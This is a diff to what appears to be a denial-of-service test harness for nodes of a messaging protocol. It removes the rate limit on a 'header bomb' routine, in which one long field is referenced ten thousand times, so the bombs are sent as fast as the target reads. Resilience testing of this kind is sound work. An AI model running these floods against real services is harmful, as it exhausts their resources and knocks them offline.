@@ -1,6 +1,7 @@
 // Ways to keep a node from its work. Each goes on until its time is over and resolves to the answers that it
 // had, each with how often.
 
+import { setImmediate as nextTurn } from 'node:timers/promises'
 import { gzipSync } from 'node:zlib'
 import { PublishRequest, QueryRequest } from '@posthorn/wire'
 import { queryOf } from './api-client.ts'
@@ -123,10 +124,7 @@ const continuationFlood: Attack = async (target) => {
   return answers
 }
 
-/**
- * A long field, said once and referred to ten thousand times by one byte each, at ten megabytes a second: more would be
- * an attack on the line.
- */
+/** A long field, said once and referred to ten thousand times by one byte each, as fast as the node reads. */
 const headerBombs: Attack = async (target) => {
   const references = Buffer.alloc(10_000, 0x80 | 62)
   const bomb = (stream: number): Buffer => {
@@ -145,9 +143,10 @@ const headerBombs: Attack = async (target) => {
       socket.write(opening)
       count(answers, 'connections')
       for (let stream = 1; isOn(target) && !socket.destroyed; stream += 2) {
+        while (socket.writableNeedDrain && isOn(target) && !socket.destroyed) await sleep(1)
         socket.write(bomb(stream))
         count(answers, 'bombs')
-        await sleep(50)
+        await nextTurn()
       }
       socket.destroy()
     }
